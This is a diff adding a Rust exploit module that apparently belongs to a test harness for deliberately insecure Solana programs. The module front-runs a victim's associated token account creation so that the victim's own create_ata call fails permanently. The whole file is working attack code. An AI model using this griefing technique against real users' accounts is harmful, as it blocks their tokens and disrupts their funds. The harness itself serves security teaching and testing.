@@ -0,0 +1,99 @@
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    signature::Keypair,
+    signer::Signer,
+    system_program, sysvar,
+};
+use spl_associated_token_account::{
+    get_associated_token_address, instruction::create_associated_token_account,
+};
+
+use crate::{anchor_discriminator, Env, Error, Exploit, Location, Program, Result, Severity, ATA};
+
+/// Creates the victim's ATA before they do. With `init` their own
+/// `create_ata` then fails forever, `init_if_needed` accepts the existing account.
+#[derive(Default)]
+pub struct FrontRunInit {
+    mint: Pubkey,
+    victim: Option<Keypair>,
+    victim_blocked: bool,
+}
+
+impl Exploit for FrontRunInit {
+    fn name(&self) -> &'static str {
+        "ata-init"
+    }
+
+    fn program(&self) -> Program {
+        ATA
+    }
+
+    fn summary(&self) -> &'static str {
+        "front-run the victim's ATA so their create_ata always fails"
+    }
+
+    fn severity(&self) -> Severity {
+        Severity::Medium
+    }
+
+    fn location(&self) -> Location {
+        Location {
+            instruction: "associated_token_creator::create_ata",
+            file: "programs/ata/src/insecure.rs",
+            symbol: "CreateAta",
+        }
+    }
+
+    fn setup(&mut self, env: &mut Env) -> Result<()> {
+        self.mint = env.create_mint(6);
+        self.victim = Some(env.funded_keypair(LAMPORTS_PER_SOL));
+        Ok(())
+    }
+
+    fn attack(&mut self, env: &mut Env) -> Result<()> {
+        let victim = self.victim.as_ref().expect("setup ran");
+        let ata = get_associated_token_address(&victim.pubkey(), &self.mint);
+
+        let front_run = create_associated_token_account(
+            &env.payer.pubkey(),
+            &victim.pubkey(),
+            &self.mint,
+            &spl_token::id(),
+        );
+        env.send(&[front_run], &[])?;
+
+        // The victim's own call is what gets griefed, so its failure is the attack succeeding
+        let create_ata = Instruction::new_with_bytes(
+            ATA.id,
+            &anchor_discriminator("create_ata"),
+            vec![
+                AccountMeta::new(victim.pubkey(), true),
+                AccountMeta::new(ata, false),
+                AccountMeta::new_readonly(self.mint, false),
+                AccountMeta::new_readonly(system_program::id(), false),
+                AccountMeta::new_readonly(spl_token::id(), false),
+                AccountMeta::new_readonly(spl_associated_token_account::id(), false),
+                AccountMeta::new_readonly(sysvar::rent::id(), false),
+            ],
+        );
+        self.victim_blocked = env.send(&[create_ata], &[victim]).is_err();
+        Ok(())
+    }
+
+    fn assert_compromised(&self, _env: &Env) -> Result<()> {
+        if !self.victim_blocked {
+            return Err(Error::NotCompromised(
+                "victim's create_ata succeeded".into(),
+            ));
+        }
+        Ok(())
+    }
+
+    fn expected_error(&self) -> Option<ProgramError> {
+        // `init_if_needed` takes the front-run account, nothing is rejected
+        None
+    }
+}